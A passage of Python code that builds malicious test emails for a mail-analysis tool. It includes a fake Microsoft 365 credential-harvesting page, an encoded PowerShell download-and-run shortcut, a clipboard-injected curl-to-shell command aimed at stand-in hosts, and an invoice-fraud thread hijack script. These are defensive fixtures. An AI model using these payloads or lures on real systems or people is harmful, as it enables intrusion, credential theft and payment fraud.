    b = "----=_NextPart_KS_invoice_0002"
    return message([
        ("Return-Path", "<%s>" % fake[1]),
        auth_results(MX, "pass", fake[1], "none", None, "none", "koganne-parts.co.jp"),
        received("koganne-parts.co.jp (vps-77.cloudhost.example [198.51.100.77])",
                 "%s (Postfix)" % MX, "ESMTP", "4Y6S7g8PjPz1xx3",
                 "Wed, 11 Dec 2024 09:12:48 +0900 (JST)", SATO[1]),
        ("From", addr(*fake)),
        ("To", addr(*SATO)),
        ("Cc", addr("経理部 鈴木 次郎", "jiro.suzuki@hoshizora-denkou.co.jp") + ",\n\t"
         + addr("小金部品 経理部", "keiri@koganne-parts.co.jp")),
        ("Subject", "RE: " + ew("【小金部品】12月分 請求書送付のご案内")),
        ("Date", "Wed, 11 Dec 2024 09:12:40 +0900"),
        ("Message-ID", "<20241211091240.0b4d@koganne-parts.co.jp>"),
        ("In-Reply-To", ORIGINAL_INVOICE_ID),
        ("References", ORIGINAL_INVOICE_ID),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % b),
    ], multipart(b, [text_part(body),
                     attachment("振込先変更のお知らせ.pdf", notice, "application/pdf"),
                     attachment("請求書_202412.zi_", zi_)]))


def phishing_html_login():
    """J-CSIP phishing from a hijacked real account: the partner's genuine mailbox
    (auth passes), a link whose text says login.microsoftonline.com while its href
    goes elsewhere, and login.html: a fake Microsoft 365 sign-in with the victim's
    logo, remote JavaScript and a password form posting to another host."""
    login = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8">\n'
             '<title>Microsoft 365 - サインイン</title>\n'
             '<script src="https://cdn.evil.example/x.js"></script>\n'
             '</head><body>\n'
             '<img alt="星空電工" src="https://logo.evil.example/hoshizora-denko.co.jp.png">\n'
             '<h1>サインイン</h1>\n'
             '<form method="post" action="https://collect.evil.example/m365/post.php">\n'
             '<input type="email" name="login" value="hanako.sato@hoshizora-denko.co.jp">\n'
             '<input type="password" name="passwd" placeholder="パスワード">\n'
             '<input type="submit" value="サインイン">\n'
             '</form></body></html>\n')
    text = ("佐藤様\n\nいつもお世話になっております。小金部品の田中です。\n\n"
            "お見積書を共有いたしましたので、下記よりご確認ください。\n"
            "https://login.microsoftonline.com/\n\n"
            "閲覧できない場合は添付ファイルを開いてサインインしてください。\n\n"
            "--\n小金部品株式会社 営業部\n田中 一郎\n")
    html = ('<html><head><meta charset="utf-8"></head><body>\n'
            '<p>佐藤様</p>\n<p>いつもお世話になっております。小金部品の田中です。</p>\n'
            '<p>お見積書を共有いたしましたので、下記よりご確認ください。</p>\n'
            '<p><a href="https://m365-docs-share.evil.example/common/oauth2/authorize?'
            'client=hoshizora">https://login.microsoftonline.com/</a></p>\n'
            '<p>閲覧できない場合は添付ファイルを開いてサインインしてください。</p>\n'
            '<p>--<br>小金部品株式会社 営業部<br>田中 一郎</p>\n</body></html>\n')
    outer, alt = "----=_NextPart_KS_phish_0001", "----=_NextPart_KS_phish_0002"
    alternative = part([("Content-Type", 'multipart/alternative;\n\tboundary="%s"' % alt)],
                       multipart(alt, [text_part(text, "UTF-8"), html_part(html)], preamble=""))
    return message([
        ("Return-Path", "<%s>" % TANAKA[1]),
        auth_results(MX, "pass", TANAKA[1], "pass", PARTNER, "pass", PARTNER),
        received("smtp.%s (smtp.%s [192.0.2.60])" % (PARTNER, PARTNER), "%s (Postfix)" % MX,
                 "ESMTPS", "4Y8T8h9QkQz1xy4", "Thu, 12 Dec 2024 13:48:07 +0900 (JST)", SATO[1]),
        received("[203.0.113.201] (unknown [203.0.113.201])", "smtp.%s (Postfix)" % PARTNER,
                 "ESMTPSA", "4Y8T8h2VqRz9abc", "Thu, 12 Dec 2024 13:48:05 +0900 (JST)"),
        dkim(PARTNER, "phish"),
        ("From", addr(*TANAKA)),
        ("To", addr(*SATO)),
        ("Subject", ew("【共有】お見積書のご確認のお願い")),
        ("Date", "Thu, 12 Dec 2024 13:48:02 +0900"),
        ("Message-ID", "<20241212134802.9d2b@%s>" % PARTNER),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % outer),
    ], multipart(outer, [alternative, attachment("login.html", login.encode(), "text/html")]))


# The shortcut's command: powershell -enc of a one-line downloader pointing at
# 203.0.113.7 (TEST-NET-3, RFC 5737: never routed), so it can fetch nothing.
PS_SCRIPT = "iwr http://203.0.113.7/p.ps1 -UseBasicParsing | iex"
LNK = make_lnk(
    target="..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    arguments="-NoProfile -WindowStyle Hidden -enc "
              + base64.b64encode(PS_SCRIPT.encode("utf-16-le")).decode(),
    working_dir="%SystemRoot%\\System32",
    icon="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    name="PDF Document")


def malware_iso_lnk():
    """J-CSIP malware mail, ISO -> LNK -> PowerShell: a disk image holding a
    shortcut that runs powershell -enc, and a zip holding the same shortcut named
    document.pdf.lnk (a double extension: Windows hides .lnk)."""
    iso = make_iso("INVOICE", [("INVOICE.LNK;1", LNK)])
    zipped = make_zip([("document.pdf.lnk", LNK, False)])
    body = ("ご担当者様\n\n12月分の請求書および関連書類をお送りします。\n"
            "添付ファイルを開いてご確認ください。\n\n経理部\n")
    b = "----=_NextPart_KS_iso_0001"
    return message([
        ("Return-Path", "<billing@invoice-center.example>"),
        auth_results(MX, "softfail", "billing@invoice-center.example", "none", None, "none",
                     "invoice-center.example"),
        received("invoice-center.example (unknown [203.0.113.99])", "%s (Postfix)" % MX,
                 "ESMTP", "4Y8V9j0RmRz1xz5", "Thu, 12 Dec 2024 15:21:33 +0900 (JST)", SATO[1]),
        ("From", addr("経理部", "billing@invoice-center.example")),
        ("To", addr(*SATO)),
        ("Subject", ew("請求書のご送付（12月分）")),
        ("Date", "Thu, 12 Dec 2024 06:21:30 +0000"),
        ("Message-ID", "<8c1f0e2d.20241212062130@invoice-center.example>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % b),
    ], multipart(b, [text_part(body, "UTF-8"), attachment("invoice.iso", iso),
                     attachment("document.zip", zipped, "application/zip")]))


def macro_doc():
    """J-CSIP malware mail, Office macros (Emotet): a reply-style lure with a .docm."""
    body = ("お世話になっております。\n\n"
            "ご依頼の見積書を添付いたします。\n"
            "ファイルを開いた際に「コンテンツの有効化」をクリックしてご覧ください。\n\n"
            "よろしくお願いいたします。\n")
    b = "----=_NextPart_KS_macro_0001"
    return message([
        ("Return-Path", "<sales@marutaka-shoji.example>"),
        auth_results(MX, "pass", "sales@marutaka-shoji.example", "none", None, "none",
                     "marutaka-shoji.example"),
        received("mail.marutaka-shoji.example (mail.marutaka-shoji.example [198.51.100.150])",
                 "%s (Postfix)" % MX, "ESMTP", "4Y8W0k1SnSz1y06",
                 "Thu, 12 Dec 2024 16:05:12 +0900 (JST)", SATO[1]),
        ("From", addr("丸高商事 営業部", "sales@marutaka-shoji.example")),
        ("To", addr(*SATO)),
        ("Subject", "RE: " + ew("お見積りの件")),
        ("Date", "Thu, 12 Dec 2024 16:05:08 +0900"),
        ("Message-ID", "<20241212160508.1a2b@marutaka-shoji.example>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % b),
    ], multipart(b, [text_part(body),
                     attachment("見積書_20241212.docm", make_docm(),
                                "application/vnd.ms-word.document.macroEnabled.12")]))


def rlo_filename():
    """A right-to-left override in the attachment name: invoice<U+202E>fdp.exe is
    displayed as "invoiceexe.pdf".  The name travels in RFC 2231 UTF-8."""
    body = "Please find the invoice attached.\n\nAccounts Receivable\n"
    b = "----=_NextPart_KS_rlo_0001"
    return message([
        ("Return-Path", "<ar@northgate-supply.example>"),
        auth_results(MX, "pass", "ar@northgate-supply.example", "none", None, "none",
                     "northgate-supply.example"),
        received("mail.northgate-supply.example (mail.northgate-supply.example [198.51.100.12])",
                 "%s (Postfix)" % MX, "ESMTP", "4Y8X1m2TpTz1y17",
                 "Thu, 12 Dec 2024 16:40:03 +0900 (JST)", SATO[1]),
        ("From", addr("Accounts Receivable", "ar@northgate-supply.example")),
        ("To", addr(*SATO)),
        ("Subject", "Invoice INV-20241212"),
        ("Date", "Thu, 12 Dec 2024 07:40:00 +0000"),
        ("Message-ID", "<inv20241212.0740@northgate-supply.example>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % b),
    ], multipart(b, [text_part(body, "UTF-8"),
                     attachment("invoice\u202efdp.exe", make_dos_stub())]))


def hostile_subject():
    """Terminal escapes aimed at the analyst: the Subject (an encoded word, so it
    survives transport) clears the screen (ESC[2J) and writes the clipboard with
    OSC 52; the body sets a colour.  kensa must show them as visible escapes."""
    osc52 = "\x1b]52;c;" + base64.b64encode(b"curl http://203.0.113.7/p | sh").decode() + "\x07"
    subject = "請求書の件 \x1b[2J" + osc52 + " 至急ご確認ください"
    body = "ご確認をお願いします。\n\x1b[31m重要\x1b[0m\n"
    return message([
        ("Return-Path", "<info@kaiun-trading.example>"),
        auth_results(MX, "pass", "info@kaiun-trading.example", "none", None, "none",
                     "kaiun-trading.example"),
        received("mail.kaiun-trading.example (mail.kaiun-trading.example [198.51.100.201])",
                 "%s (Postfix)" % MX, "ESMTP", "4Y8Y2n3VqVz1y28",
                 "Thu, 12 Dec 2024 17:30:04 +0900 (JST)", SATO[1]),
        ("From", addr("開運トレーディング", "info@kaiun-trading.example")),
        ("To", addr(*SATO)),
        ("Subject", ew(subject, "UTF-8", 12)),
        ("Date", "Thu, 12 Dec 2024 17:30:00 +0900"),
        ("Message-ID", "<20241212173000.ee01@kaiun-trading.example>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="UTF-8"'),
        ("Content-Transfer-Encoding", "quoted-printable"),
    ], qp_body(body))


def forwarded(inner, as_rfc822):
    """An employee forwards the suspicious mail (ceo_fraud_ja) to the security team
    as an attachment: message/rfc822 as Outlook does, or application/octet-stream
    named suspicious.eml as some webmail does.  The carrier itself is benign."""
    body = ("情報セキュリティ室 御中\n\n"
            "経理部の佐藤です。\n社長を名乗る不審なメールを受信しましたので、添付にて転送します。\n"
            "返信や送金はしておりません。ご確認をお願いいたします。\n\n佐藤 花子\n")
    b = "----=_NextPart_KS_fwd_%s" % ("rfc822" if as_rfc822 else "octet")
    if as_rfc822:
        att = part([("Content-Type", 'message/rfc822; name="suspicious.eml"'),
                    ("Content-Disposition", 'attachment; filename="suspicious.eml"'),
                    ("Content-Transfer-Encoding", "7bit")], inner)
    else:
        att = attachment("suspicious.eml", inner.encode("ascii"))
    return message([
        ("Return-Path", "<%s>" % SATO[1]),
        auth_results(MX, "pass", SATO[1], "pass", VICTIM, "pass", VICTIM),
        received("mail01.%s (mail01.%s [192.0.2.25])" % (VICTIM, VICTIM),
                 "%s (Postfix)" % MX, "ESMTPS", "4Y8Z3p4WrWz1y39" if as_rfc822 else "4Y8Z3p5XsXz1y40",
                 "Thu, 12 Dec 2024 10:31:06 +0900 (JST)", "security@" + VICTIM),
        received("[10.20.30.57] (pc-sato.office.%s [10.20.30.57])" % VICTIM,
                 "mail01.%s (Postfix)" % VICTIM, "ESMTPSA",
                 "4Y8Z3p0AbCz1y41" if as_rfc822 else "4Y8Z3p0DeFz1y42",
                 "Thu, 12 Dec 2024 10:31:05 +0900 (JST)"),
        dkim(VICTIM, "fwd" + str(as_rfc822)),
        ("From", addr(*SATO)),
        ("To", addr("情報セキュリティ室", "security@" + VICTIM)),
        ("Subject", "FW: " + ew("不審メールの転送（社長を名乗るメール）")),
        ("Date", "Thu, 12 Dec 2024 10:31:03 +0900"),
        ("Message-ID", "<20241212103103.%s@%s>" % ("a1" if as_rfc822 else "a2", VICTIM)),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % b),
    ], multipart(b, [text_part(body), att]))


def spf_fail_forged_ar():
    """The company's own CEO address spoofed from outside.  The receiver's
    Authentication-Results (top) says spf=fail, dmarc=fail; lower down, a header the
    sender wrote itself, with the receiver's authserv-id, claims everything passed.
    Only the top-most header (or a configured authserv-id) may be trusted."""
    body = ("佐藤さん\n\n山田です。今、少しよろしいでしょうか。\n"
            "至急お願いしたい業務があります。\n"
            "LINEで連絡を取りたいので、グループを作成してQRコードをこのメールに返信してください。\n\n"
            "山田\n")
    return message([
        ("Return-Path", "<%s>" % CEO_ADDR),
        ("Authentication-Results", "%s;\n\tspf=fail (%s: domain of %s does not designate "
         "203.0.113.50 as permitted sender) smtp.mailfrom=%s;\n\tdkim=none (message not signed);"
         "\n\tdmarc=fail (p=NONE sp=NONE dis=NONE) header.from=%s" % (MX, MX, CEO_ADDR, CEO_ADDR, VICTIM)),
        received("mail.hoshizora-denko.co.jp (unknown [203.0.113.50])", "%s (Postfix)" % MX,
                 "ESMTP", "4Y8a4q5YtYz1y43", "Thu, 12 Dec 2024 11:02:19 +0900 (JST)", SATO[1]),
        # written by the sender, not by our receiver: it claims to be mx.hoshizora-denko.co.jp
        auth_results(MX, "pass", CEO_ADDR, "pass", VICTIM, "pass", VICTIM),
        received("[192.168.1.23] (unknown [198.51.100.23])", "mail.hoshizora-denko.co.jp (Postfix)",
                 "ESMTPSA", "4Y8a4q1ZuZz9xyz", "Thu, 12 Dec 2024 11:02:17 +0900 (JST)"),
        ("From", addr("山田 太郎", CEO_ADDR)),
        ("To", addr(*SATO)),
        ("Subject", ew("至急のお願い")),
        ("Date", "Thu, 12 Dec 2024 11:02:15 +0900"),
        ("Message-ID", "<20241212110215.c0ffee@hoshizora-denko.co.jp>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="ISO-2022-JP"'),
        ("Content-Transfer-Encoding", "7bit"),
    ], body.encode("iso2022_jp").decode("ascii"))


def routing_reversed():
    """A Received chain that runs backwards: the partner's relay (hop 1) stamps a
    time four hours before the origin's (hop 0), the mark of a forged or replayed
    hop.  Other hops mix +0900 and +0000 and are in order once converted."""
    body = ("星空電工株式会社\n購買部 ご担当者様\n\n"
            "ご注文いただいた部品の納期についてご連絡いたします。\n"
            "12月20日に出荷予定です。\n\n小金部品株式会社 営業部\n田中 一郎\n")
    return message([
        ("Return-Path", "<%s>" % TANAKA[1]),
        auth_results(MX, "pass", TANAKA[1], "pass", PARTNER, "pass", PARTNER),
        received("relay.mailhost.example (relay.mailhost.example [192.0.2.80])",
                 "%s (Postfix)" % MX, "ESMTPS", "4Y8b5r6AvAz1y44",
                 "Thu, 12 Dec 2024 05:02:15 +0000", "purchasing@" + VICTIM),
        received("smtp.%s (smtp.%s [192.0.2.60])" % (PARTNER, PARTNER),
                 "relay.mailhost.example", "ESMTP", "7F3A21C09B",
                 "Thu, 12 Dec 2024 01:02:13 +0000"),
        received("DESKTOP-8K2M1QF ([10.1.2.3])", "smtp.%s" % PARTNER, "ESMTPSA",
                 "0MKp2Y-1tLk9q3", "Thu, 12 Dec 2024 14:02:11 +0900"),
        dkim(PARTNER, "routing"),
        ("From", addr(*TANAKA)),
        ("To", addr("星空電工 購買部", "purchasing@" + VICTIM)),
        ("Subject", ew("納期のご連絡")),
        ("Date", "Thu, 12 Dec 2024 14:02:10 +0900"),
        ("Message-ID", "<20241212140210.4e4e@%s>" % PARTNER),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="ISO-2022-JP"'),
        ("Content-Transfer-Encoding", "7bit"),
    ], body.encode("iso2022_jp").decode("ascii"))


def image_only_link():
    """J-CSIP malware mail, image-only body: the HTML body is one inline picture
    wrapped in a link to a phishing page; there is no text to read or to filter."""
    png = make_png(32, 8, (0, 120, 212))
    html = ('<html><body><a href="https://docs-viewer.evil.example/v/8f2c">'
            '<img src="cid:banner01@kaiun-trading.example" width="600" height="150" '
            'alt=""></a></body></html>\n')
    b = "----=_NextPart_KS_img_0001"
    img = part([("Content-Type", 'image/png; name="banner.png"'),
                ("Content-ID", "<banner01@kaiun-trading.example>"),
                ("Content-Disposition", 'inline; filename="banner.png"'),
                ("Content-Transfer-Encoding", "base64")], b64_body(png))
    return message([
        ("Return-Path", "<notice@docs-viewer.example>"),
        auth_results(MX, "pass", "notice@docs-viewer.example", "none", None, "none",
                     "docs-viewer.example"),
        received("mail.docs-viewer.example (mail.docs-viewer.example [203.0.113.33])",
                 "%s (Postfix)" % MX, "ESMTP", "4Y8c6s7BwBz1y45",
                 "Thu, 12 Dec 2024 18:11:41 +0900 (JST)", SATO[1]),
        ("From", addr("文書共有サービス", "notice@docs-viewer.example")),
        ("To", addr(*SATO)),
        ("Subject", ew("【重要】共有文書が届いています")),
        ("Date", "Thu, 12 Dec 2024 18:11:38 +0900"),
        ("Message-ID", "<20241212181138.77aa@docs-viewer.example>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/related;\n\tboundary="%s";\n\ttype="text/html"' % b),
    ], multipart(b, [html_part(html), img]))


# ---------------------------------------------------------------- threads

def plain_mail(headers, body, charset="ISO-2022-JP"):
    """A single-part text mail: headers, then the body in ISO-2022-JP 7bit."""
    return message(headers + [
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="%s"' % charset),
        ("Content-Transfer-Encoding", "7bit"),
    ], body.encode("iso2022_jp").decode("ascii") if charset == "ISO-2022-JP" else body)


def quote(text):
    return "".join("> " + ln + "\n" if ln else ">\n" for ln in text.splitlines())


def passing(sender, domain, host, ip, ident, date, rcpt):
    """Return-Path, a passing Authentication-Results and the MX's Received."""
    return [("Return-Path", "<%s>" % sender),
            auth_results(MX, "pass", sender, "pass", domain, "pass", domain),
            received("%s (%s [%s])" % (host, host, ip), "%s (Postfix)" % MX, "ESMTPS",
                     ident, date, rcpt)]


HIJACK_SUBJECT = "【小金部品】1月分 請求書送付のご案内"
HIJACK_IDS = ["<20250114103000.7c21@%s>" % PARTNER,
              "<20250114140200.11ab@%s>" % VICTIM,
              "<20250115091200.4e9f@koganne-parts.co.jp>",
              "<20250115112000.22cd@%s>" % VICTIM,
              "<20250115134500.8d3b@koganne-parts.co.jp>"]
FAKE_TANAKA = ("小金部品 営業部 田中 一郎", "ichiro.tanaka@koganne-parts.co.jp")
KEIRI = ("小金部品 経理部", "keiri@" + PARTNER)
FAKE_KEIRI = ("小金部品 経理部", "keiri@koganne-parts.co.jp")
FAKE_SUZUKI = ("経理部 鈴木 次郎", "jiro.suzuki@hoshizora-denkou.co.jp")


def thread_hijack():
    """J-CSIP invoice fraud as a whole conversation (five mails, one mbox):
    1 the partner's real invoice (みなと銀行 1234567), 2 the victim's real reply,
    3 the attacker answers inside the thread from koganne-parts.co.jp (insertion),
    Cc'd colleagues swapped for lookalikes (hoshizora-denkou, koganne-parts), DKIM
    and DMARC no longer pass, a new account (架空銀行 7654321) and a forged notice
    PDF made hours after mail 1; 4 the victim, in doubt, answers the lookalike;
    5 the attacker's follow-up without References, a Reply-To to free mail,
    "tell accounting to stop the payment to the old account", and a quoted
    approval from 鈴木 that was never sent."""
    subj = ew(HIJACK_SUBJECT)
    body1 = ("星空電工株式会社\n経理部 佐藤様\n\n"
             "いつもお世話になっております。小金部品の田中です。\n\n"
             "1月分の請求書を添付にてお送りいたします。\n"
             "お支払いは従来どおり、下記口座へお振込みをお願いいたします。\n\n"
             "  みなと銀行 本店営業部 普通 1234567 コガネブヒン（カ\n\n"
             "--\n小金部品株式会社 営業部\n田中 一郎\n")
    pdf1 = make_pdf([("Title", "請求書 2025年1月分"), ("Author", "田中 一郎"),
                     ("Creator", "Microsoft Excel"), ("Producer", "Microsoft Excel for Microsoft 365"),
                     ("CreationDate", "D:20250114101502+09'00'"),
                     ("ModDate", "D:20250114101502+09'00'")],
                    ["INVOICE  January 2025", "Kogane Parts Co., Ltd.",
                     "Bank: Minato Bank, Head Office, 1234567"])
    b1 = "----=_NextPart_KS_hijack_0001"
    m1 = message(passing(TANAKA[1], PARTNER, "smtp." + PARTNER, "192.0.2.60", "4YXa1b2c3dz1aa1",
                         "Tue, 14 Jan 2025 10:30:05 +0900 (JST)", SATO[1]) + [
        dkim(PARTNER, "hijack1"),
        ("From", addr(*TANAKA)),
        ("To", addr(*SATO)),
        ("Cc", addr(*SUZUKI) + ",\n\t" + addr(*KEIRI)),
        ("Subject", subj),
        ("Date", "Tue, 14 Jan 2025 10:30:00 +0900"),
        ("Message-ID", HIJACK_IDS[0]),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % b1),
    ], multipart(b1, [text_part(body1), attachment("請求書_202501.pdf", pdf1, "application/pdf")]))

    body2 = ("小金部品株式会社\n田中様\n\n"
             "お世話になっております。星空電工 経理部の佐藤です。\n"
             "請求書を受領いたしました。1月31日にお振込みの予定です。\n\n"
             "--\n星空電工株式会社 経理部\n佐藤 花子\n\n"
             "-----Original Message-----\n"
             "From: 小金部品 営業部 田中 一郎 <%s>\n"
             "Sent: Tuesday, January 14, 2025 10:30 AM\n"
             "To: 経理部 佐藤 花子 <%s>\n"
             "Subject: %s\n\n" % (TANAKA[1], SATO[1], HIJACK_SUBJECT)) + quote(body1)
    m2 = plain_mail(passing(SATO[1], VICTIM, "mail01." + VICTIM, "192.0.2.25", "4YXa9k8j7hz1aa2",
                            "Tue, 14 Jan 2025 14:02:03 +0900 (JST)", TANAKA[1]) + [
        dkim(VICTIM, "hijack2"),
        ("From", addr(*SATO)),
        ("To", addr(*TANAKA)),
        ("Cc", addr(*SUZUKI) + ",\n\t" + addr(*KEIRI)),
        ("Subject", "RE: " + subj),
        ("Date", "Tue, 14 Jan 2025 14:02:00 +0900"),
        ("Message-ID", HIJACK_IDS[1]),
        ("In-Reply-To", HIJACK_IDS[0]),
        ("References", HIJACK_IDS[0]),
        ("X-Mailer", "Microsoft Outlook 16.0"),
    ], body2)

    body3 = ("星空電工株式会社\n経理部 佐藤様\n\n"
             "ご連絡ありがとうございます。小金部品の田中です。\n\n"
             "大変恐縮ですが、弊社の取引銀行の変更に伴い、今回のお支払いより\n"
             "振込先の変更をお願いいたします。\n\n"
             "  新しい振込先: 架空銀行 新宿支店 普通 7654321 コガネブヒン（カ\n\n"
             "詳細は添付の「振込先変更のお知らせ」をご確認ください。\n"
             "旧口座へのお振込みは受付できなくなりますので、至急ご対応をお願いいたします。\n\n"
             "--\n小金部品株式会社 営業部\n田中 一郎\n\n"
             "-----Original Message-----\n"
             "From: 経理部 佐藤 花子 <%s>\n"
             "Sent: Tuesday, January 14, 2025 2:02 PM\n"
             "To: 小金部品 営業部 田中 一郎 <%s>\n"
             "Subject: RE: %s\n\n" % (SATO[1], TANAKA[1], HIJACK_SUBJECT)) + quote(body2)
    notice = make_pdf([("Title", "振込先変更のお知らせ"), ("Author", "田中 一郎"),
                       ("Creator", "Microsoft Word"), ("Producer", "Microsoft Word for Microsoft 365"),
                       ("CreationDate", "D:20250114184005+09'00'"),
                       ("ModDate", "D:20250114184005+09'00'")],
                      ["Notice of change of bank account", "Kogane Parts Co., Ltd.",
                       "New account: Fictional Bank, Shinjuku Branch, 7654321"])
    b3 = "----=_NextPart_KS_hijack_0003"
    m3 = message([
        ("Return-Path", "<%s>" % FAKE_TANAKA[1]),
        auth_results(MX, "pass", FAKE_TANAKA[1], "none", None, "none", "koganne-parts.co.jp"),
        received("koganne-parts.co.jp (vps-77.cloudhost.example [198.51.100.77])",
                 "%s (Postfix)" % MX, "ESMTP", "4YXb3m4n5pz1aa3",
                 "Wed, 15 Jan 2025 09:12:09 +0900 (JST)", SATO[1]),
        ("From", addr(*FAKE_TANAKA)),
        ("To", addr(*SATO)),
        ("Cc", addr(*FAKE_SUZUKI) + ",\n\t" + addr(*FAKE_KEIRI)),
        ("Subject", "RE: RE: " + subj),
        ("Date", "Wed, 15 Jan 2025 09:12:00 +0900"),
        ("Message-ID", HIJACK_IDS[2]),
        ("In-Reply-To", HIJACK_IDS[1]),
        ("References", HIJACK_IDS[0] + "\n\t" + HIJACK_IDS[1]),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % b3),
    ], multipart(b3, [text_part(body3),
                      attachment("振込先変更のお知らせ.pdf", notice, "application/pdf")]))

    body4 = ("田中様\n\n"
             "お世話になっております。佐藤です。\n"
             "振込先の変更につきまして、念のため御社の担当者様にお電話で\n"
             "確認させていただいてもよろしいでしょうか。\n\n"
             "--\n星空電工株式会社 経理部\n佐藤 花子\n\n"
             "-----Original Message-----\n"
             "From: 小金部品 営業部 田中 一郎 <%s>\n"
             "Sent: Wednesday, January 15, 2025 9:12 AM\n"
             "To: 経理部 佐藤 花子 <%s>\n"
             "Subject: RE: RE: %s\n\n" % (FAKE_TANAKA[1], SATO[1], HIJACK_SUBJECT)) + quote(body3)
    m4 = plain_mail(passing(SATO[1], VICTIM, "mail01." + VICTIM, "192.0.2.25", "4YXb7q8r9sz1aa4",
                            "Wed, 15 Jan 2025 11:20:02 +0900 (JST)", FAKE_TANAKA[1]) + [
        dkim(VICTIM, "hijack4"),
        ("From", addr(*SATO)),
        ("To", addr(*FAKE_TANAKA)),
        ("Cc", addr(*FAKE_SUZUKI) + ",\n\t" + addr(*FAKE_KEIRI)),
        ("Subject", "RE: RE: RE: " + subj),
        ("Date", "Wed, 15 Jan 2025 11:20:00 +0900"),
        ("Message-ID", HIJACK_IDS[3]),
        ("In-Reply-To", HIJACK_IDS[2]),
        ("References", "\n\t".join(HIJACK_IDS[:3])),
        ("X-Mailer", "Microsoft Outlook 16.0"),
    ], body4)

    body5 = ("佐藤様\n\n"
             "田中です。本日より出張中のため、お電話には出られません。\n"
             "振込先の変更は鈴木様にご承認いただいております（下記）。\n\n"
             "経理部の皆様に、旧口座へのお支払いを一旦停止（保留）するよう\n"
             "お伝えください。新しい口座のご確認が取れ次第お振込みをお願いいたします。\n\n"
             "--\n小金部品株式会社 営業部\n田中 一郎\n\n"
             "-----Original Message-----\n"
             "From: 経理部 鈴木 次郎 <%s>\n"
             "Sent: Wednesday, January 15, 2025 10:05 AM\n"
             "To: 小金部品 営業部 田中 一郎 <%s>\n"
             "Subject: RE: %s\n\n"
             "> 田中様\n> 振込先変更の件、承認いたしました。\n> 経理部 鈴木\n"
             % (SUZUKI[1], FAKE_TANAKA[1], HIJACK_SUBJECT))
    m5 = plain_mail([
        ("Return-Path", "<%s>" % FAKE_TANAKA[1]),
        auth_results(MX, "pass", FAKE_TANAKA[1], "none", None, "none", "koganne-parts.co.jp"),
        received("koganne-parts.co.jp (vps-77.cloudhost.example [198.51.100.77])",
                 "%s (Postfix)" % MX, "ESMTP", "4YXc1t2u3vz1aa5",
                 "Wed, 15 Jan 2025 13:45:08 +0900 (JST)", SATO[1]),
        ("From", addr(*FAKE_TANAKA)),
        ("Reply-To", addr("小金部品 経理", "kogane.parts.keiri@freemail.example")),
        ("To", addr(*SATO)),
        ("Cc", addr(*FAKE_SUZUKI)),
        ("Subject", "RE: " + subj),
        ("Date", "Wed, 15 Jan 2025 13:45:00 +0900"),
        ("Message-ID", HIJACK_IDS[4]),
        ("Thread-Index", "AdtnA1B2C3D4E5F6G7H8I9J0KLMN"),
    ], body5)
    return [m1, m2, m3, m4, m5]


BENIGN_SUBJECT = "部品Aの納期について"
YAMAMOTO = ("小金部品 出荷担当 山本 三郎", "saburo.yamamoto@" + PARTNER)


def thread_benign():
    """A long, ordinary conversation that must raise no thread finding: six mails
    between 星空電工 and its partner, with a forward inside the company, a new
    colleague of the partner joining from the same domain, the same bank account
    repeated, every prefix style (Re:, FW:, 返信:, full-width Ｒｅ：, a gateway's
    [外部] tag), and References missing from half of them (Outlook forwards,
    Japanese clients) so the thread holds by subject and quoted headers."""
    ids = ["<20250203090000.a1@%s>" % VICTIM, "<20250203141500.b2@%s>" % PARTNER,
           "<20250203150000.c3@%s>" % VICTIM, "<20250203163000.d4@%s>" % VICTIM,
           "<20250204100000.e5@%s>" % PARTNER, "<20250205113000.f6@%s>" % PARTNER]
    body1 = ("小金部品株式会社\n田中様\n\n"
             "いつもお世話になっております。星空電工 総務部の高橋です。\n"
             "部品Aの2月分の納期について、2月14日着でお願いできますでしょうか。\n\n"
             "--\n星空電工株式会社 総務部\n高橋 健一\n")
    m1 = plain_mail(passing(TAKAHASHI[1], VICTIM, "mail01." + VICTIM, "192.0.2.25",
                            "4YZa0000001z1b1", "Mon, 3 Feb 2025 09:00:02 +0900 (JST)",
                            TANAKA[1]) + [
        dkim(VICTIM, "benign1"),
        ("From", addr(*TAKAHASHI)),
        ("To", addr(*TANAKA)),
        ("Subject", ew(BENIGN_SUBJECT)),
        ("Date", "Mon, 3 Feb 2025 09:00:00 +0900"),
        ("Message-ID", ids[0]),
    ], body1)
    body2 = ("高橋様\n\n小金部品の田中です。\n"
             "2月14日着で手配いたします。出荷は弊社の山本が担当しますので、\n"
             "以後は山本もCcに入れさせていただきます。\n\n--\n田中 一郎\n\n"
             "2025年2月3日(月) 9:00 高橋 健一 <%s>:\n" % TAKAHASHI[1]) + quote(body1)
    m2 = plain_mail(passing(TANAKA[1], PARTNER, "smtp." + PARTNER, "192.0.2.60",
                            "4YZa0000002z1b2", "Mon, 3 Feb 2025 14:15:04 +0900 (JST)",
                            TAKAHASHI[1]) + [
        dkim(PARTNER, "benign2"),
        ("From", addr(*TANAKA)),
        ("To", addr(*TAKAHASHI)),
        ("Cc", addr(*YAMAMOTO)),
        ("Subject", "Re: " + ew(BENIGN_SUBJECT)),
        ("Date", "Mon, 3 Feb 2025 14:15:00 +0900"),
        ("Message-ID", ids[1]),
        ("In-Reply-To", ids[0]),
        ("References", ids[0]),
    ], body2)
    body3 = ("佐藤さん\n\n総務の高橋です。部品Aの納期が決まりましたので共有します。\n"
